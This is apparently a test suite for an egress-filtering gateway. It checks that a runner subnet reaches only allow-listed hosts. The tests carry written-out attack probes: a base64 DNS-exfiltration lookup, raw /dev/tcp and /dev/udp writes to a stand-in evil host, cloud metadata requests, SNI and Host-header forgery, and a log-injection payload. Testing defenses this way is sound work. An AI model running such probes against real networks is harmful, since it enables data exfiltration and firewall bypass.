// What gets out of a runner's subnet and what does not, with the gateway's files as they ship, in namespaces of the test's own (DESIGN 10).
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type From, type Lab, startLab } from "./lab.ts";
import { EVIL, eventually, GOOD, LISTS, LONG, OTHER, PING, SHARED } from "./scene.ts";

describe("a gateway that enforces", () => {
	let lab: Lab;
	beforeAll(async () => {
		lab = await startLab("enforce", LISTS);
	}, LONG);
	afterAll(() => lab.stop());

	const logged = (match: Record<string, unknown>) =>
		eventually(() =>
			lab
				.log()
				.toReversed()
				.find((line) => Object.entries(match).every(([key, value]) => line[key] === value)),
		);
	async function passes(from: From, url: string, at: { to?: string } = {}): Promise<string> {
		const { stdout, stderr } = await lab.curl(from, url, at);
		expect(stderr).toBe("");
		return stdout.trim();
	}
	async function isCut(from: From, url: string, at: { to?: string; args?: string[] } = {}): Promise<void> {
		const before = lab.reached.length;
		const { stdout, status } = await lab.curl(from, url, at);
		expect([stdout, status === 0]).toEqual(["", false]);
		await Bun.sleep(50);
		expect(lab.reached.slice(before)).toEqual([]);
	}

	test.each(["https://github.test/", "https://api.github.test/", "http://github.test/", "http://api.github.test/"])(
		"lets %s through",
		async (url) => {
			expect(await passes("run", url)).toBe(GOOD);
			expect(await logged({ act: "allow", name: new URL(url).hostname })).toMatchObject({ list: "build", src: "10.77.1.10", to: GOOD });
		},
	);

	test("cuts a name that is not listed, whatever address its client has for it, and says so", async () => {
		await isCut("run", "https://evil.test/", { to: EVIL });
		expect(await logged({ name: "evil.test", gateway: "tls" })).toMatchObject({
			act: "deny",
			why: "not-listed",
			list: "build",
			orig_dst: EVIL,
		});
		await isCut("run", "http://evil.test/", { to: EVIL });
		expect(await logged({ name: "evil.test", gateway: "web" })).toMatchObject({ act: "deny", why: "not-listed", status: 403 });
	});

	test("cuts addresses without a name", async () => {
		await isCut("run", `https://${EVIL}/`, { args: ["-k"] });
		await isCut("run", `http://${EVIL}/`);
		await isCut("run", `https://${GOOD}/`, { args: ["-k"] });
	});

	test("takes a forged name to the real host", async () => {
		expect(await passes("run", "https://github.test/", { to: EVIL })).toBe(GOOD);
		expect(await passes("run", "http://github.test/", { to: EVIL })).toBe(GOOD);
		expect(await logged({ name: "github.test", orig_dst: EVIL, gateway: "tls" })).toMatchObject({ act: "allow", to: GOOD });
	});

	test("cuts other ports, UDP and ICMP", async () => {
		await isCut("run", `http://evil.test:8443/`, { to: EVIL });
		await isCut("run", `http://${EVIL}:8443/`);
		const before = lab.reached.length;
		for (const [address, port] of [
			[EVIL, 443],
			["11.0.0.8", 53],
		])
			await lab.exec("run", "bash", "-c", `echo hello > /dev/udp/${address}/${port}`);
		await Bun.sleep(300);
		expect(lab.reached.slice(before)).toEqual([]);
		expect((await lab.exec("run", "python3", "-c", PING)).stdout).toBe("");
	});

	test("is no way round for IPv6", async () => {
		await isCut("run", "http://[2001:db8::20]/", { args: ["-g"] });
	});

	test("leaves names that are not listed unknown: nothing is told to the world in a question", async () => {
		const { stderr } = await lab.curl("run", "https://c2VjcmV0.evil.example/");
		expect(stderr).toContain("Could not resolve");
	});

	test.each(["imds.test", "vpc.test", "loop.test"])("cuts %s, a listed name that leads where nobody should go", async (name) => {
		await isCut("run", `https://${name}/`, { to: EVIL });
		expect(await logged({ name, gateway: "tls" })).toMatchObject({ act: "deny", why: "not-public" });
		await isCut("run", `http://${name}/`, { to: EVIL });
		expect(await logged({ name, gateway: "web" })).toMatchObject({ act: "deny", why: "not-public" });
	});

	test("goes by the list of the subnet: another tier's names are not one's own", async () => {
		await isCut("dep", "https://github.test/");
		expect(await logged({ src: "10.77.2.10" })).toMatchObject({ act: "deny", list: "deploy", why: "not-listed" });
		expect((await lab.curl("dep", "http://ship.test/")).stdout.trim()).toBe(GOOD);
		await isCut("run", "http://ship.test/");
	});

	test(
		"lets nobody look around: no other subnet, not itself, not its metadata",
		async () => {
			for (const target of ["10.77.2.10", "10.77.1.1", "10.77.2.1", "11.0.1.2", "169.254.169.254"])
				for (const port of [22, 53, 80, 443, 3129, 3130]) {
					const before = lab.reached.length;
					const { status } = await lab.exec("run", "curl", "-q", "-sS", "--fail", "--max-time", "1", `http://${target}:${port}/`);
					expect([target, port, status === 0]).toEqual([target, port, false]);
					expect(lab.reached.slice(before)).toEqual([]);
				}
		},
		LONG,
	);

	test("cuts a tenant that is not listed on an address that others share", async () => {
		expect(await passes("run", "https://shared.test/")).toBe(SHARED);
		await isCut("run", "https://tenant.test/", { to: SHARED });
	});

	test("reads a hello that comes in pieces, and is not fooled by one", async () => {
		for (const how of ["plain", "segments"] as const) {
			expect(await lab.hello(GOOD, "github.test", how)).toBe(GOOD);
			expect(await lab.hello(EVIL, "evil.test", how)).not.toContain("11.0.0");
		}
		// Over two records an admitted name may fail; another one must not pass.
		expect(await lab.hello(EVIL, "evil.test", "records")).not.toContain("11.0.0");
	});

	test(
		"cuts a hello without a name, a name of any length, and what is no TLS at all",
		async () => {
			const { stdout } = await lab.exec(
				"run",
				"bash",
				"-c",
				`echo | timeout 5 openssl s_client -noservername -connect ${GOOD}:443 2>&1 | grep -c 'subject='`,
			);
			expect(stdout.trim()).toBe("0");
			const name = `${"a".repeat(63)}.${"b".repeat(63)}.${"c".repeat(63)}.${"d".repeat(63)}.github.test`;
			const long = await lab.exec(
				"run",
				"bash",
				"-c",
				`echo | timeout 5 openssl s_client -servername ${name} -connect ${GOOD}:443 2>&1 | grep -c 'subject='`,
			);
			expect(long.stdout.trim()).toBe("0");
			expect(await logged({ why: "no-name" })).toMatchObject({ act: "deny" });
			const ssh = await lab.exec(
				"run",
				"bash",
				"-c",
				`exec 3<>/dev/tcp/${GOOD}/443; printf 'SSH-2.0-OpenSSH_9.2\\r\\n' >&3; timeout 5 cat <&3`,
			);
			expect(ssh.stdout).toBe("");
		},
		LONG,
	);

	test("is no proxy to be asked", async () => {
		const proxy = (port: number) =>
			lab.exec("run", "curl", "-q", "-sS", "--max-time", "3", "--proxy", `http://10.77.1.1:${port}`, "http://github.test/");
		for (const port of [3129, 3130]) expect((await proxy(port)).status).not.toBe(0);
		// A tunnel asked for on port 80.
		await isCut("run", "https://evil.test/", { args: ["--proxy", `http://${EVIL}:80`, "-k"] });
	});

	test("does not mix up requests of one connection", async () => {
		const both = await lab.exec(
			"run",
			"curl",
			"-q",
			"-sS",
			"--max-time",
			"6",
			"--resolve",
			`evil.test:80:${GOOD}`,
			"http://github.test/",
			"http://evil.test/",
		);
		expect(both.stdout).toStartWith(`${GOOD}\n`);
		expect(both.stdout).not.toContain(EVIL);
		const forged = `printf 'GET / HTTP/1.1\\r\\nHost: github.test\\r\\nHost: evil.test\\r\\n\\r\\n' >&3`;
		const two = await lab.exec("run", "bash", "-c", `exec 3<>/dev/tcp/${GOOD}/80; ${forged}; timeout 2 cat <&3`);
		expect(two.stdout).not.toContain("11.0.0");
	});

	test("writes nothing into its log but what it means", async () => {
		await lab.exec(
			"run",
			"bash",
			"-c",
			`exec 3<>/dev/tcp/${GOOD}/80; printf 'GET / HTTP/1.1\\r\\nHost: x","act":"allow\\r\\n\\r\\n' >&3; timeout 2 cat <&3`,
		);
		const line = await logged({ why: "no-name", gateway: "web" });
		expect(line.act).toBe("deny");
	});

	test("keeps HAProxy itself off what is not public, whatever it is told", async () => {
		const as = (target: string) =>
			lab.exec("gw", "setpriv", "--reuid=haproxy", "--clear-groups", "curl", "-q", "-sS", "--max-time", "2", `http://${target}/`);
		for (const target of ["169.254.169.254", "10.77.2.10", "127.0.0.1"]) expect((await as(target)).status).not.toBe(0);
	});

	test(
		"goes with a name that moves",
		async () => {
			expect(await passes("run", "https://rotate.test/")).toBe(GOOD);
			lab.rename({ "rotate.test": OTHER });
			// What the gateway heard holds for ten seconds; it resolves anew for each connection, whatever its client heard.
			const moved = async () => {
				for (let tries = 0; tries < 60; tries++) {
					const { stdout, status } = await lab.curl("run", "https://rotate.test/");
					expect(status).toBe(0);
					if (stdout.trim() === OTHER) return true;
					await Bun.sleep(250);
				}
				return false;
			};
			expect(await moved()).toBe(true);
		},
		LONG,
	);

	test(
		"takes a new list without cutting what is open",
		async () => {
			const open = Bun.sleep(0).then(() =>
				lab.exec(
					"run",
					"bash",
					"-c",
					`exec 3<>/dev/tcp/${GOOD}/80; sleep 3; printf 'GET / HTTP/1.0\\r\\nHost: github.test\\r\\n\\r\\n' >&3; cat <&3`,
				),
			);
			await Bun.sleep(500);
			lab.reload({ ...LISTS, build: [...LISTS.build.filter((name) => name !== "shared.test"), "evil.test"] });
			await Bun.sleep(1500);
			expect((await open).stdout).toContain(GOOD);
			expect(await passes("run", "https://evil.test/")).toBe(EVIL);
			await isCut("run", "https://shared.test/");
		},
		LONG,
	);
});
